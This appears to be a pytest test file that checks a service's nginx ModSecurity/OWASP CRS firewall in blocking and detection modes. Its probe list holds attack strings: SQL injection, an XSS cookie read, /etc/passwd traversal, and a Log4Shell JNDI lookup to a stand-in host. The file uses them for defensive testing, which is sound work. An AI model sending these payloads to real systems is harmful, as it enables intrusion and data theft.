"""The edge's firewall: a real nginx with Debian's ModSecurity and the OWASP Core Rule Set."""

import contextlib
import json
import socket
import ssl
import subprocess
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from infra_nginx import Ports, assert_problem, nginx, running, serving, wait_until, write_conf
from infra_ports import free_ports
from infra_upstream import Recorder
from web4_identity.app import create_app
from web4_identity.domain.attestation import Birth, attest
from web4_identity.domain.binding import prove_binding
from web4_identity.domain.entities import EntityType
from web4_identity.domain.keys import raw_public_key, to_multikey
from web4_identity.http.body_time import BODY_SECONDS
from web4_identity.settings import load_settings
from web4_identity.signature.client import PayerAuth

from infra.settings import EdgeRateLimit, WafSettings
from infra.waf_conf import WAF_DIRECTIVES

pytestmark = [pytest.mark.infra, pytest.mark.tools]

RunEdge = Callable[..., httpx.Client]

PORTS = Ports(*free_ports(3))
NO_LIMIT = EdgeRateLimit(rate="1000r/s", burst=1000)
# Each with a header that it is looked for in: of all headers that is so for the last two only.
PROBES = {
    "1' UNION SELECT password FROM users--": "Cookie",
    "<script>alert(document.cookie)</script>": "User-Agent",
    "../../../../etc/passwd": "X-Request-ID",
    "${jndi:ldap://evil.example/a}": "X-Request-ID",
}
WAYS: dict[str, Callable[[str], dict[str, Any]]] = {
    "query": lambda probe: {"method": "GET", "url": "/v1/lct", "params": {"society": probe}},
    "header": lambda probe: {"method": "GET", "url": "/v1/lct", "headers": {PROBES[probe]: f"a={probe}"}},
    "body": lambda probe: {"method": "POST", "url": "/v1/lct/mint", "json": {"metadata": {"note": probe}}},
}
SOCIETIES = ("commons", "Großmütter & Söhne", "Société d’Émile", "日本の社会", "общество", "acme.inc", "O'Neill")


@pytest.fixture
def edge(tmp_path: Path) -> Iterator[Callable[..., httpx.Client]]:
    """edge(mode="blocking", ...) runs nginx with these WafSettings; `Recorder.seen` is what the service gets to see."""
    Recorder.seen.clear()
    with contextlib.ExitStack() as stack:
        stack.enter_context(serving(Recorder, PORTS.upstream))

        def run(body_seconds: str = "10", **waf: Any) -> httpx.Client:
            conf = write_conf(tmp_path, PORTS, NO_LIMIT, WafSettings(**waf), body_seconds)
            return stack.enter_context(running(conf, PORTS))

        yield run


def audited(folder: Path) -> list[str]:
    """The rules that matched, of every request in the audit log."""
    lines = (folder / "audit.log").read_text().splitlines()
    return [each["details"]["ruleId"] for line in lines for each in json.loads(line)["transaction"]["messages"]]


def would_have_refused(folder: Path, times: int) -> Callable[[], bool]:
    return lambda: audited(folder).count("949110") == times


def examples() -> list[httpx.Request]:
    """Every request of the API's own description, with each of its example bodies and all of its parameters."""
    settings = load_settings(DATABASE_URL="postgresql://nobody@localhost/none")
    document = create_app(settings).openapi()
    made = []
    for path, operations in document["paths"].items():
        for method, operation in operations.items():
            named: dict[str, dict[str, str]] = {kind: {} for kind in ("path", "query", "header")}
            for each in operation["parameters"]:
                named[each["in"]][each["name"]] = str(each["example"])
            bodies = [
                example["value"]
                for media in operation.get("requestBody", {}).get("content", {}).values()
                for example in media["examples"].values()
            ]
            for body in bodies or [None]:
                url = f"https://127.0.0.1:{PORTS.https}{path.format(**named['path'])}"
                made.append(
                    httpx.Request(method, url, params=named["query"] or None, headers=named["header"], json=body)
                )
    return made


def trickled(body: bytes) -> bool:
    """Whether a body that comes byte by byte, one each 50 ms, is answered; False when the connection is cut first."""
    trust = ssl.create_default_context()
    trust.check_hostname, trust.verify_mode = False, ssl.CERT_NONE
    fields = ["Host: x", "Content-Type: application/json", f"Content-Length: {len(body)}"]
    head = "\r\n".join(["POST /v1/lct/mint HTTP/1.1", *fields, "", ""])
    with trust.wrap_socket(socket.create_connection(("127.0.0.1", PORTS.https))) as connection:
        try:
            connection.sendall(head.encode())
            for place in range(len(body)):
                connection.sendall(body[place : place + 1])
                time.sleep(0.05)
            return connection.recv(1024).startswith(b"HTTP/1.1")
        except OSError:
            return False


@pytest.mark.parametrize("way", WAYS)
def test_blocking_refuses_an_attack_before_the_service_sees_it(edge: RunEdge, way: str) -> None:
    client = edge(mode="blocking")
    for probe in PROBES:
        assert_problem(client.request(**WAYS[way](probe)), 403, "W4_ERR_WAF")
    assert Recorder.seen == []


@pytest.mark.parametrize("way", WAYS)
def test_detection_lets_an_attack_pass_and_says_so(edge: RunEdge, tmp_path: Path, way: str) -> None:
    client = edge(mode="detection")
    for number, probe in enumerate(PROBES, 1):
        assert client.request(**WAYS[way](probe)).status_code == 200
        assert len(Recorder.seen) == number
        # The rule that would have refused it; nginx writes after it has answered.
        wait_until(would_have_refused(tmp_path, number), "as many lines in the audit log")


def test_blocking_lets_every_example_of_the_api_pass(edge: RunEdge, tmp_path: Path) -> None:
    client = edge(mode="blocking")
    requests = [each for each in examples() if each.url.path != "/metrics"]
    assert {each.method for each in requests} == {"GET", "POST", "PUT"}
    for request in requests:
        assert client.send(request).status_code == 200, f"{request.method} {request.url}: {audited(tmp_path)}"
    assert len(Recorder.seen) == len(requests) > 10


def test_blocking_lets_signed_mints_pass_whatever_the_society_is_called(edge: RunEdge, tmp_path: Path) -> None:
    client = edge(mode="blocking")
    for society in SOCIETIES:
        key, payer = Ed25519PrivateKey.generate(), Ed25519PrivateKey.generate()
        body = {
            "caller_lct_id": PayerAuth(payer).lct_id,
            "entity_type": "human",
            "entity_identifier": "alice@example.com",
            "society": society,
            "public_key": to_multikey(raw_public_key(key)),
            "binding_proof": prove_binding(key, EntityType.HUMAN),
            "parent_org": society,
        }
        fields: dict[str, Any] = {name: body[name] for name in Birth.__dataclass_fields__ if name in body}
        birth = Birth(**{**fields, "entity_type": EntityType.HUMAN})
        witness = {"lct_id": PayerAuth(payer).lct_id, "attestation": attest(payer, birth)}
        answers = [
            client.post("/v1/lct/mint", json={**body, "witnesses": [witness] * 10}, auth=PayerAuth(payer)),
            client.get(f"/v1/societies/{society}"),
            client.get("/v1/lct", params={"society": society}),
        ]
        assert [each.status_code for each in answers] == [200] * 3, f"{society}: {audited(tmp_path)}"


def test_blocking_looks_at_more_than_attacks_by_text(edge: RunEdge) -> None:
    client = edge(mode="blocking")
    assert_problem(client.request("DELETE", "/v1/lct/mint"), 403, "W4_ERR_WAF")
    assert_problem(client.post("/v1/lct/mint", data={"a": "b"}), 403, "W4_ERR_WAF")
    unreadable = client.post("/v1/lct/mint", content=b'{"a": ', headers={"Content-Type": "application/json"})
    assert_problem(unreadable, 403, "W4_ERR_WAF")
    assert Recorder.seen == []


def test_blocking_leaves_the_edges_own_answers_as_they_are(edge: RunEdge) -> None:
    client = edge(mode="blocking")
    assert_problem(client.get("/metrics"), 404, "W4_ERR_NOT_FOUND")
    assert_problem(client.post("/", content=b"x" * (17 * 1024)), 413, "W4_ERR_BODY_TOO_LARGE")
    for pieces in (17, 60):
        assert_problem(client.post("/", content=iter([b"x" * 1024] * pieces)), 413, "W4_ERR_BODY_TOO_LARGE")


def test_the_threshold_decides_how_much_is_too_much(edge: RunEdge) -> None:
    client = edge(mode="blocking", anomaly_threshold=1000)
    assert client.get("/v1/lct", params={"society": "<script>alert(1)</script>"}).status_code == 200


@pytest.mark.parametrize("level", [1, 2, 3, 4])
def test_nginx_accepts_every_paranoia_level(tmp_path: Path, level: int) -> None:
    conf = write_conf(tmp_path, PORTS, NO_LIMIT, WafSettings(mode="blocking", paranoia_level=level))
    assert f"setvar:tx.paranoia_level={level}," in (tmp_path / "waf.conf").read_text()
    done = subprocess.run([nginx(), "-t", "-e", "stderr", "-c", str(conf)], capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert "[warn]" not in done.stderr and "[alert]" not in done.stderr


def test_a_body_has_the_services_time_in_all_though_nginx_reads_it_first(edge: RunEdge) -> None:
    """With less time than the real one, which is the service's: the client would be done after ten times as much."""
    client = edge(mode="blocking", body_seconds="0.5")
    assert not trickled(b'{"reason": "' + b"x" * 100 + b'"}')
    assert Recorder.seen == []
    assert client.get("/v1/lct").status_code == 200


def test_the_bodys_time_is_the_services() -> None:
    assert f"ngx.sleep({BODY_SECONDS})" in WAF_DIRECTIVES


def test_off_needs_no_module(tmp_path: Path) -> None:
    text = write_conf(tmp_path, PORTS).read_text()
    assert "load_module" not in text and "modsecurity" not in text and "lua" not in text and "W4_ERR_WAF" not in text
